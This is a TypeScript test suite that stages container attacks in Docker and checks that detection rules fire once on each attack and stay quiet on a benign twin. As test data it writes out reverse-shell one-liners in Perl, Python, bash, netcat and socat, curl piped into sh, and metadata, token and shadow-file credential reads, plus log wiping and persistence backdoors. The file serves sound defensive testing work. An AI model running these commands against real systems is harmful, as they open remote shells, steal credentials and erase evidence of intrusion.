import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type RuleFile, readOwnRules } from '@seaworthy/runtime';
import { hasCommand, hasShared, run, sharedPath } from '@seaworthy/testkit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { AttackStage, type Play, whyNoStage } from './support/attack-stage.ts';
import { titled } from './support/requirements.ts';

/** Two seconds are long enough for a test. */
const shorter: RuleFile = {
  name: 'shorter.yaml',
  text: `- macro: sw_long_busy
  condition: (evt.rawarg.busy >= 1900000000)
  override:
    condition: replace
`,
};

/** The default rule about unknown destinations asks for the networks of a namespace. */
const watched: RuleFile = {
  name: 'watched.yaml',
  text: `- list: namespace_scope_network_only_subnet
  items: [shop]
  override:
    items: replace
`,
};

const hasDefaults = hasShared('corpora/falco/rules');
const whyNot = whyNoStage() ?? (hasDefaults ? undefined : 'the default rules are absent');

interface Attack {
  readonly what: string;
  readonly attack: Play;
  /** Rules that alert, each once. */
  readonly expected: readonly string[];
  /** A part of the command line of the first. */
  readonly by: string;
  /** The same for an honest reason. */
  readonly twin: Play;
}

const python = (...words: string[]): Play => ({ command: ['python3', ...words] });
const shell = (line: string, ...options: string[]): Play => ({
  command: ['sh', '-c', line],
  options,
});
/** Somebody waits at port 4444 for what the command gives him. */
const toListener = (...words: string[]): Play => ({
  command: ['python3', '/attack/listener.py', '4444', ...words],
});
const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const tokenMount = ['--volume', `/etc/hostname:${token}:ro`];
const writableTmp = ['--tmpfs', '/tmp:exec'];
const unconfined = ['--security-opt', 'seccomp=unconfined'];
const unmasked = ['--security-opt', 'systempaths=unconfined'];
const ownNetwork = ['--cap-add', 'NET_ADMIN'];
/** Others use the processors of this machine too. */
const quick = [...ownNetwork, '--cap-add', 'SYS_NICE', '--cpu-shares', '200000'];
const perlShell =
  'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
const pythonShell =
  'import socket,os,subprocess;s=socket.socket();s.connect(("127.0.0.1",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call(["/bin/sh"])';
const role = 'latest/meta-data/iam/security-credentials/web';

const attacks: readonly Attack[] = [
  {
    what: 'a miner that speaks Stratum',
    attack: python('/attack/miner.py', 'stratum'),
    expected: ['Mining protocol spoken'],
    by: 'miner.py stratum',
    twin: python('/attack/miner.py', 'http'),
  },
  {
    what: 'a Monero miner that logs in',
    attack: python('/attack/miner.py', 'login'),
    expected: ['Mining protocol spoken'],
    by: 'miner.py login',
    twin: python('/attack/miner.py', 'http'),
  },
  {
    what: 'a miner by its name',
    attack: shell('/attack/xmrig --version; true'),
    expected: ['Known cryptominer started'],
    by: 'xmrig --version',
    twin: shell('ls /attack/xmrig; true'),
  },
  {
    what: 'a miner by its options',
    attack: shell('/bin/echo -o pool.example:3333 --donate-level 1; true'),
    expected: ['Program started with the options of a cryptominer'],
    by: '--donate-level',
    twin: shell('/bin/echo -o server.example:3333 --level 1; true'),
  },
  {
    what: 'the killer of other miners',
    attack: shell('pkill -f xmrig; true'),
    expected: ['Rival cryptominers killed'],
    by: 'pkill',
    twin: shell('pkill -HUP nginx; true'),
  },
  {
    what: 'a processor kept busy, with a connection to the internet',
    attack: shell(
      'ip addr add 203.0.113.5/32 dev lo; nice -n -20 python3 /attack/busy.py 3.4 203.0.113.5; true',
      ...quick,
    ),
    expected: ['Processor kept busy by a program with few connections'],
    by: 'busy.py',
    twin: shell(
      'ip addr add 10.0.0.5/32 dev lo; nice -n -20 python3 /attack/busy.py 3.4 10.0.0.5; true',
      ...quick,
    ),
  },
  {
    what: 'a pool looked up',
    attack: python('/attack/lookup.py', 'gulf.moneroocean.stream'),
    expected: ['Mining pool looked up'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'registry.npmjs.org'),
  },
  {
    what: 'a reverse shell of a script in Python',
    attack: toListener('python3', '/attack/reverse_shell.py'),
    expected: ['Shell on a network connection'],
    by: 'sh',
    twin: python('/attack/child_process.py'),
  },
  {
    what: 'a reverse shell in C',
    attack: toListener('/attack/attacker', 'reverse-shell'),
    expected: ['Shell on a network connection'],
    by: 'sh',
    twin: shell('/attack/attacker; true'),
  },
  {
    what: 'a reverse shell in a line of Python',
    attack: {
      ...toListener('sh', '-c', 'exec python3 -c "$LINE"'),
      options: ['--env', `LINE=${pythonShell}`],
    },
    expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
    by: 'python3 -c import socket',
    twin: python('-c', 'import socket; socket.socket().connect_ex(("127.0.0.1", 8080))'),
  },
  {
    what: 'a reverse shell in a line of Perl',
    attack: {
      ...toListener('sh', '-c', 'exec perl -e "$LINE"'),
      options: ['--env', `LINE=${perlShell}`],
    },
    expected: ['Reverse shell in one line of a script language', 'Shell on a network connection'],
    by: 'perl -e use Socket',
    twin: { command: ['perl', '-e', 'use Socket; print inet_aton("127.0.0.1") ? 1 : 0'] },
  },
  {
    what: "a reverse shell of bash's own",
    attack: shell(
      'ip addr add 203.0.113.5/32 dev lo; python3 /attack/listener.py 4444 bash -c "$LINE"; true',
      ...ownNetwork,
      ...['--env', 'LINE=bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
    ),
    expected: ['Shell told to connect', 'Shell on a network connection'],
    by: 'bash -c bash -i',
    twin: { command: ['bash', '-c', '</dev/tcp/127.0.0.1/8080'] },
  },
  {
    what: 'netcat that starts a shell',
    attack: toListener('nc.traditional', '-e', '/bin/sh', '127.0.0.1', '4444'),
    expected: ['Connection handed to a program', 'Shell on a network connection'],
    by: 'nc.traditional -e',
    twin: { command: ['nc.traditional', '-z', '127.0.0.1', '8080'] },
  },
  {
    what: 'socat that starts a shell',
    attack: toListener('socat', 'TCP:127.0.0.1:4444', 'EXEC:/bin/sh'),
    expected: ['Connection handed to a program'],
    by: 'socat TCP:',
    twin: { command: ['socat', '-u', '/dev/null', 'OPEN:/dev/null'] },
  },
  {
    what: 'a shell tied to netcat by a named pipe',
    attack: toListener(
      'sh',
      '-c',
      'mkfifo /f; cat /f | sh -i 2>&1 | nc.traditional 127.0.0.1 4444 > /f',
    ),
    expected: ['Shell tied to a network tool by a named pipe'],
    by: 'sh -c mkfifo',
    twin: shell('mkfifo /f; cat /f > /dev/null & echo x > /f; true'),
  },
  {
    what: 'a terminal for a shell that has none',
    attack: shell('python3 -c \'import pty; pty.spawn("/bin/true")\'; true'),
    expected: ['Terminal made for a shell without one'],
    by: 'python3 -c import pty',
    twin: shell('script -qc true /root/log; true'),
  },
  {
    what: "the engine's socket",
    attack: shell(
      'curl -s --unix-socket /run/docker.sock http://x/version >/dev/null; true',
      ...['--volume', '{stage}/docker.sock:/run/docker.sock'],
    ),
    expected: ['Container engine used from a container'],
    by: 'curl',
    twin: shell('curl -s --unix-socket /run/app.sock http://x/; true'),
  },
  {
    what: "the host's files for a root",
    attack: shell('chroot /host /bin/true; true', '--volume', '/:/host:ro'),
    expected: ["Root changed to the host's files in a container"],
    by: 'chroot',
    twin: shell('chroot / /bin/true; true'),
  },
  {
    what: 'the pattern of core dumps',
    attack: shell(': >> /proc/sys/kernel/core_pattern; true', ...unmasked),
    expected: ['Program of the host named to the kernel from a container'],
    by: 'sh -c',
    twin: shell('cat /proc/sys/kernel/core_pattern', ...unmasked),
  },
  {
    what: 'a device of a disk',
    attack: shell('mknod /disk b 8 200; true'),
    expected: ['Disk device made in a container'],
    by: 'mknod',
    twin: shell('mknod /pipe p; true'),
  },
  {
    what: 'a file by its handle',
    attack: shell(
      '/attack/attacker handle /etc/hostname; true',
      ...['--cap-add', 'DAC_READ_SEARCH', '--security-opt', 'seccomp=unconfined'],
    ),
    expected: ['File opened past its path in a container'],
    by: 'attacker handle',
    twin: shell('cat /etc/hostname; true', '--cap-add', 'DAC_READ_SEARCH'),
  },
  {
    what: "the host's namespaces",
    attack: shell('nsenter -t 1 -m true; true'),
    expected: ['Namespaces of the host entered from a container'],
    by: 'nsenter -t 1',
    twin: shell('nsenter --help > /dev/null; true'),
  },
  {
    what: 'a leaked descriptor',
    attack: { command: ['bash', '-c', 'exec 9</; cd /proc/self/fd/9'] },
    expected: ['Directory entered through a leaked descriptor'],
    by: 'bash -c',
    twin: { command: ['bash', '-c', 'exec 9</; cd /proc/self; cd /'] },
  },
  {
    what: "credentials of the machine's role",
    attack: shell(
      `ip addr add 169.254.169.254/32 dev lo; python3 /attack/serve.py 169.254.169.254 80 x & sleep 1; curl -s http://169.254.169.254/${role}; true`,
      ...ownNetwork,
    ),
    expected: ["Credentials asked of the cloud's metadata service"],
    by: 'curl -s',
    twin: shell(
      'python3 /attack/serve.py 127.0.0.1 80 x & sleep 1; curl -s http://127.0.0.1/health; true',
    ),
  },
  {
    what: 'the token of a workload',
    attack: shell(`cat ${token} > /dev/null; true`, ...tokenMount),
    expected: ['Token of a workload read by hand'],
    by: 'cat',
    twin: { ...python('/attack/read_file.py', token), options: tokenMount },
  },
  {
    what: "somebody's login at a cloud",
    attack: shell(
      'cat /root/.aws/credentials; true',
      '--volume',
      '/etc/hostname:/root/.aws/credentials:ro',
    ),
    expected: ['Login kept in a file read by hand'],
    by: 'cat',
    twin: {
      ...python('/attack/read_file.py', '/root/.aws/credentials'),
      options: ['--volume', '/etc/hostname:/root/.aws/credentials:ro'],
    },
  },
  {
    what: 'the memory of a process',
    attack: shell('/attack/attacker memory; true', '--cap-add', 'SYS_PTRACE'),
    expected: ['Memory of another process read in a container'],
    by: 'attacker memory',
    twin: shell('/attack/attacker; true'),
  },
  {
    what: 'a toolkit',
    attack: shell('cp /bin/true /opt/x; sh ./linpeas.sh; true'),
    expected: ['Toolkit of intruders started'],
    by: 'sh ./linpeas.sh',
    twin: shell('sh ./release.sh; true'),
  },
  {
    what: 'a program in a file system of memory',
    attack: shell('cp /bin/true /tmp/x; /tmp/x; true', ...writableTmp),
    expected: ['Program started from a temporary file system'],
    by: 'x',
    twin: shell('cp /bin/true /tmp/x; /bin/true; true', ...writableTmp),
  },
  {
    what: 'a script among temporary files',
    attack: shell('echo true > /tmp/x.sh; sh /tmp/x.sh; true', ...writableTmp),
    expected: ['Script run from a directory for temporary files'],
    by: 'sh /tmp/x.sh',
    twin: shell('echo true > /srv/x.sh; sh /srv/x.sh; true'),
  },
  {
    what: 'a program behind the loader',
    attack: shell('cp /bin/true /tmp/x; /lib64/ld-linux-x86-64.so.2 /tmp/x; true', ...writableTmp),
    expected: ['Program hidden behind the loader'],
    by: '/tmp/x',
    twin: shell('/lib64/ld-linux-x86-64.so.2 --list /bin/true > /dev/null; true'),
  },
  {
    what: 'a library for every program',
    attack: shell(': > /etc/ld.so.preload; true'),
    expected: ['Library forced into every program'],
    by: 'sh -c',
    twin: shell('cat /etc/ld.so.preload; true'),
  },
  {
    what: 'a library out of a temporary directory',
    attack: shell('LD_PRELOAD=/tmp/x.so /bin/true; true'),
    expected: ['Library forced into a program from a temporary directory'],
    by: 'true',
    twin: shell('LD_PRELOAD=/usr/lib/x.so /bin/true; true'),
  },
  {
    what: 'a download that is run at once',
    attack: shell("sh -c 'curl -s http://127.0.0.1:1/i.sh | sh; true'; true"),
    expected: ['Download run by a shell at once'],
    by: 'sh -c curl',
    twin: shell("sh -c 'curl -s http://127.0.0.1:1/health | grep ok; true'; true"),
  },
  {
    what: 'a log that is deleted',
    attack: shell('rm /var/log/wtmp; true'),
    expected: ['System log deleted'],
    by: 'rm /var/log/wtmp',
    twin: shell('touch /var/log/app.log; rm /var/log/app.log; true'),
  },
  {
    what: 'a history that leads nowhere',
    attack: shell('ln -sf /dev/null /root/.bash_history; true'),
    expected: ['Shell history turned off'],
    by: 'ln -sf',
    twin: shell('ln -sf /dev/null /root/x.service; true'),
  },
  {
    what: 'a guard that is killed',
    attack: shell('pkill -9 falco; true'),
    expected: ['Guard or log service stopped'],
    by: 'pkill -9 falco',
    twin: shell('pkill -9 falcon; true'),
  },
  {
    what: 'a forged time',
    attack: shell('touch -r /bin/ls /usr/bin/evil; true'),
    expected: ['Time of a system file forged'],
    by: 'touch -r',
    twin: shell('touch /usr/bin/evil; true'),
  },
  {
    what: 'an unchangeable file',
    attack: shell('chattr +i /etc/hosts; true'),
    expected: ['File made unchangeable'],
    by: 'chattr +i',
    twin: shell('chattr +C /srv; true'),
  },
  {
    what: 'a name that carries data',
    attack: python('/attack/lookup.py', `${'mzxw6ytboi'.repeat(5)}2dk.t.example.net`),
    expected: ['Name that carries data looked up'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'shop.prod.svc.cluster.local'),
  },
  {
    what: "a tunnel's type of record",
    attack: python('/attack/lookup.py', 'vaaaakat.t.example.net', '10'),
    expected: ['Unusual type of DNS record asked for'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'example.net', '16'),
  },
  {
    what: 'a service for stolen data',
    attack: python('/attack/lookup.py', 'c9xk2.oast.fun'),
    expected: ['Service for stolen data looked up'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'oast.fun.example.net'),
  },
];

/** What everybody looks for, and ways back in. */
const wellKnownAttacks: readonly Attack[] = [
  {
    what: 'a shell at a terminal',
    attack: { options: ['-t'], command: ['bash', '-c', 'true'] },
    expected: ['Shell opened at a terminal in a container'],
    by: 'bash -c true',
    twin: { command: ['bash', '-c', 'true'] },
  },
  {
    what: 'a shell of a web server',
    attack: python('/attack/server.py', 'nginx', 'id'),
    expected: ['Shell started by a server'],
    by: 'sh -c id',
    twin: python('/attack/server.py', 'worker', 'id'),
  },
  {
    what: 'a dropped and executed program',
    attack: shell('cp /bin/true /opt/dropped; /opt/dropped; true'),
    expected: ['Program started that was not in the image'],
    by: 'dropped',
    twin: shell('cp /bin/true /opt/dropped; /bin/true; true'),
  },
  {
    what: 'a program that was put among those of the system',
    attack: shell('cp /bin/true /usr/bin/later; later; true'),
    expected: ['Program started that was installed later'],
    by: 'later',
    twin: shell('cp /bin/true /usr/bin/later; true'),
  },
  {
    what: 'a program in memory',
    attack: shell('/attack/attacker from-memory; true'),
    expected: ['Program started from memory'],
    by: 'x',
    twin: shell('/attack/attacker; true'),
  },
  {
    what: 'a read of /etc/shadow',
    attack: { command: ['cat', '/etc/shadow'] },
    expected: ['Password hashes read'],
    by: 'cat /etc/shadow',
    twin: { command: ['cat', '/etc/passwd'] },
  },
  {
    what: 'a search for keys',
    attack: shell('find /srv -name id_rsa; true'),
    expected: ['Keys searched for'],
    by: 'find /srv',
    twin: shell('find /srv -name index.html; true'),
  },
  {
    what: 'an attempt to load a module',
    attack: { options: ['--cap-add', 'SYS_MODULE'], command: ['/attack/attacker', 'module'] },
    expected: ['Kernel module loaded from a container'],
    by: 'attacker module',
    twin: { options: ['--cap-add', 'SYS_MODULE'], command: ['/attack/attacker'] },
  },
  {
    what: 'a connection to the internet by hand',
    attack: shell(
      'ip addr add 203.0.113.5/32 dev lo; curl -s http://203.0.113.5:8080/; true',
      ...ownNetwork,
    ),
    expected: ['Internet reached by hand from a container'],
    by: 'curl -s',
    twin: shell('curl -s http://127.0.0.1:8080/; true'),
  },
  {
    what: 'a job of cron',
    attack: shell('mkdir -p /etc/cron.d; echo x > /etc/cron.d/x'),
    expected: ['Timed job written'],
    by: 'sh -c',
    twin: shell('mkdir -p /srv/cron.d; echo x > /srv/cron.d/x'),
  },
  {
    what: 'a key for logging in',
    attack: shell('mkdir /root/.ssh; echo x >> /root/.ssh/authorized_keys'),
    expected: ['Key for logging in added'],
    by: 'sh -c',
    twin: shell('mkdir /root/.ssh; echo x >> /root/.ssh/known_hosts'),
  },
  {
    what: 'an account',
    attack: shell('echo x:x:0:0::/:/bin/sh | tee -a /etc/passwd'),
    expected: ['Account or rule of sudo written'],
    by: 'tee -a',
    twin: shell('echo x:x:1000:1000::/:/bin/sh >> /etc/passwd'),
  },
  {
    what: "what the host starts, through a mount of the host's files",
    attack: shell('mkdir -p /host/etc/cron.d; echo x > /host/etc/cron.d/x', '--tmpfs', '/host'),
    expected: ['Start of the host written from a container'],
    by: 'sh -c',
    twin: shell('mkdir -p /host/srv; echo x > /host/srv/x', '--tmpfs', '/host'),
  },
  {
    what: 'a way back to root',
    attack: shell('cp /bin/true /srv/x; chmod u+s /srv/x'),
    expected: ['Program given the rights of its owner'],
    by: 'chmod u+s',
    twin: shell('cp /bin/true /srv/x; chmod +x /srv/x'),
  },
  {
    what: 'a program for the kernel',
    attack: { options: unconfined, command: ['/attack/attacker', 'kernel-program'] },
    expected: ['Program of the kernel loaded from a container'],
    by: 'attacker kernel-program',
    twin: { options: unconfined, command: ['/attack/attacker', 'kernel-map'] },
  },
  {
    what: 'a cluster commanded by hand',
    attack: shell(
      'ip addr add 10.0.0.5/32 dev lo; curl -sk https://10.0.0.5:10250/pods; true',
      ...ownNetwork,
    ),
    expected: ['Engine or cluster commanded by hand from a container'],
    by: 'curl -sk',
    twin: shell('curl -sk https://127.0.0.1:8443/; true'),
  },
  {
    what: 'the environment of another process',
    attack: shell('cat /proc/1/environ > /dev/null; true'),
    expected: ['Environment of another process read'],
    by: 'cat /proc/1',
    twin: shell('cat /proc/1/status > /dev/null; true'),
  },
  {
    what: 'another process taken over',
    attack: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker', 'ptrace'] },
    expected: ['Code put into another process'],
    by: 'attacker ptrace',
    twin: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker'] },
  },
  {
    what: 'a log that is emptied',
    attack: shell(': > /var/log/auth.log'),
    expected: ['System log emptied'],
    by: 'sh -c',
    twin: shell(': > /var/log/app.log'),
  },
  {
    what: 'a history that is deleted',
    attack: shell('echo x > /root/.bash_history; rm /root/.bash_history'),
    expected: ['Shell history deleted'],
    by: 'rm /root',
    twin: shell('echo x > /root/history.txt; rm /root/history.txt'),
  },
  {
    what: 'data that is wiped',
    attack: shell('echo x > /srv/data; shred -u /srv/data'),
    expected: ['Data wiped'],
    by: 'shred -u',
    twin: shell('echo x > /srv/data; rm /srv/data'),
  },
  {
    what: 'a name that a machine made',
    attack: python('/attack/lookup.py', 'xkqwbzrtplmvhd.com'),
    expected: ['Name made by a machine looked up'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'internationalization.com'),
  },
  {
    what: 'a name server in HTTPS',
    attack: python('/attack/lookup.py', 'cloudflare-dns.com'),
    expected: ['Name server reached in HTTPS'],
    by: 'lookup.py',
    twin: python('/attack/lookup.py', 'cloudflare.com'),
  },
];

interface DefaultAttack {
  readonly what: string;
  readonly attack: Play;
  readonly expected: string;
  readonly twin: Play;
}

const shopLabels = [
  ...['--label', 'io.kubernetes.pod.name=shop-1', '--label', 'io.kubernetes.pod.namespace=shop'],
  ...['--label', 'io.kubernetes.pod.uid=3f29c41a', '--label', 'io.kubernetes.container.name=shop'],
];

const defaultAttacks: readonly DefaultAttack[] = [
  {
    what: 'a shell at a terminal',
    attack: { options: ['-t'], command: ['bash', '-c', 'true'] },
    expected: 'Terminal shell in container',
    twin: { command: ['bash', '-c', 'true'] },
  },
  {
    what: 'a read of /etc/shadow',
    attack: { command: ['cat', '/etc/shadow'] },
    expected: 'Read sensitive file untrusted',
    twin: { command: ['cat', '/etc/passwd'] },
  },
  {
    what: 'a dropped and executed program',
    attack: shell('cp /bin/true /opt/dropped; /opt/dropped; true'),
    expected: 'Drop and execute new binary in container',
    twin: shell('cp /bin/true /opt/dropped; /bin/true; true'),
  },
  {
    what: 'a connection to an unknown destination',
    attack: shell(
      'ip addr add 203.0.113.5/32 dev lo; curl -s http://203.0.113.5:8080/; true',
      ...ownNetwork,
      ...shopLabels,
    ),
    expected: 'Network Connection outside Local Subnet',
    twin: shell(
      'python3 -c \'import socket; s=socket.create_server(("127.0.0.1",81)); socket.create_connection(("127.0.0.1",81))\'; true',
      ...ownNetwork,
      ...shopLabels,
    ),
  },
  {
    what: 'an attempt to load a module',
    attack: { options: ['--cap-add', 'SYS_MODULE'], command: ['/attack/attacker', 'module'] },
    expected: 'Linux Kernel Module Injection Detected',
    twin: { options: ['--cap-add', 'SYS_MODULE'], command: ['/attack/attacker'] },
  },
  {
    what: 'ptrace of another process',
    attack: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker', 'ptrace'] },
    expected: 'PTRACE attached to process',
    twin: { options: ['--cap-add', 'SYS_PTRACE'], command: ['/attack/attacker'] },
  },
];

describe.skipIf(whyNot !== undefined)(titled('attacks in containers of Docker', whyNot), () => {
  let stage: AttackStage<'own' | 'default'>;

  beforeAll(async () => {
    const names = ['falco_rules', 'falco-incubating_rules', 'falco-sandbox_rules'];
    const defaults = names.map((name) => ({
      name,
      text: readFileSync(sharedPath(`corpora/falco/rules/${name}.yaml`), 'utf8'),
    }));
    stage = await AttackStage.open(
      { own: [...readOwnRules(), shorter], default: [...defaults, watched] },
      // What else is read is nothing to the rules.
      ['/etc/', '/root/', '/home/', '/run/', '/var/', '/vault/', '/proc/', '/dev/', '/tmp/'],
    );
  }, 300_000);

  afterAll(() => stage?.close(), 60_000);

  describe.each([...attacks, ...wellKnownAttacks].map((each, i) => [each.what, each, i] as const))(
    '%s',
    (_, each, i) => {
      test('alerts once, with its container and command line', async () => {
        const said = await stage.play(`attack-${i}`, each.attack);
        const alerts = stage.alertsOf('own', `attack-${i}`);
        // Where one stands under another container, that is told.
        const others = JSON.stringify(stage.alerts.own.slice(-3));
        expect(
          alerts.map(({ rule }) => rule).sort(),
          `${said}; the last alerts: ${others}`,
        ).toEqual([...each.expected].sort());
        const first = alerts.find(({ rule }) => rule === each.expected[0]);
        expect(first?.command ?? '').toContain(each.by);
        expect(first?.output ?? `container=attack-${i} `).toContain(`container=attack-${i} `);
      });

      test('its benign twin does not', async () => {
        const said = await stage.play(`benign-${i}`, each.twin);
        expect(stage.alertsOf('own', `benign-${i}`), said).toEqual([]);
      });
    },
  );

  describe.each(defaultAttacks.map((each, i) => [each.what, each, i] as const))(
    'the default rules: %s',
    (_, each, i) => {
      test('alerts once; its benign twin does not', async () => {
        const said = await stage.play(`default-${i}`, each.attack);
        const found = (name: string) =>
          stage.alertsOf('default', name).filter(({ rule }) => rule === each.expected);
        expect(found(`default-${i}`).length, said).toBe(1);
        await stage.play(`plain-${i}`, each.twin);
        expect(found(`plain-${i}`)).toEqual([]);
      });
    },
  );

  test.skipIf(!hasCommand('unshare'))(
    'a reverse shell on the host, in a network of its own',
    async () => {
      const before = stage.alertsOf('own', 'host').length;
      const listener = join(import.meta.dirname, 'attackers/listener.py');
      const attacker = join(import.meta.dirname, 'attackers/reverse_shell.py');
      const line = `ip link set lo up; exec python3 ${listener} 4444 python3 ${attacker}`;
      await run('unshare', ['-n', 'sh', '-c', line]);
      await stage.settle();
      // Others work on this host at the same time.
      const alerts = stage.alertsOf('own', 'host').slice(before);
      const ours = alerts.filter(({ output }) => output.includes('127.0.0.1:4444'));
      expect(ours.map(({ rule }) => rule)).toEqual(['Shell on a network connection']);
      expect(ours[0]?.output).toContain('container=');
    },
    30_000,
  );

  test('nothing was lost', () => {
    expect(stage.lost).toBe(0);
  });
});
